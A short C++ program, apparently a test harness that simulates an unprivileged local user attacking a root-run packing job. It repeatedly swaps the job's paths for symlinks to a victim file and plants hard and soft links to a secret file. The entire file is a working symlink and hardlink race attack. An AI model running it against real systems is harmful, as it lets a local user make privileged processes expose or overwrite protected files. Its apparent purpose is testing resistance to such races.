// What a local user without any rights can do to a run of root's: everything that may be renamed is exchanged, over
// and over, for a link to a victim, and what the run is to pack is put there first.
// usage: attacker USER VICTIM SECRET PATH...   where PATH is a folder or file that the run uses
#include <cstdio>
#include <cstdlib>
#include <string>

#include <fcntl.h>
#include <grp.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

void exchange(const std::string& path, const std::string& victim) {
  const std::string aside = path + ".x" + std::to_string(rand() % 4);
  if (rename(path.c_str(), aside.c_str()) != 0) return;
  if (symlink(victim.c_str(), path.c_str()) == 0) usleep(static_cast<useconds_t>(rand() % 300));
  if (rand() % 4 == 0) return;  // leaves it
  unlink(path.c_str());
  rename(aside.c_str(), path.c_str());
}

void plant(const std::string& path, const std::string& secret) {
  mkdir(path.c_str(), 0777);
  if (link(secret.c_str(), (path + "/hard.log").c_str()) != 0) symlink(secret.c_str(), (path + "/soft.log").c_str());
  const int file = open((path + "/kept.log").c_str(), O_WRONLY | O_CREAT | O_EXCL, 0666);
  if (file >= 0 && write(file, "PLANTED", 7) == 7) close(file);
}

}  // namespace

int main(int count, char** arguments) {
  const uid_t user = static_cast<uid_t>(std::atoi(arguments[1]));
  if (setgroups(0, nullptr) != 0 || setgid(user) != 0 || setuid(user) != 0) return 1;
  umask(0);
  for (;;) {
    const std::string path = arguments[4 + rand() % (count - 4)];
    rand() % 3 == 0 ? plant(path, arguments[3]) : exchange(path, arguments[2]);
  }
}
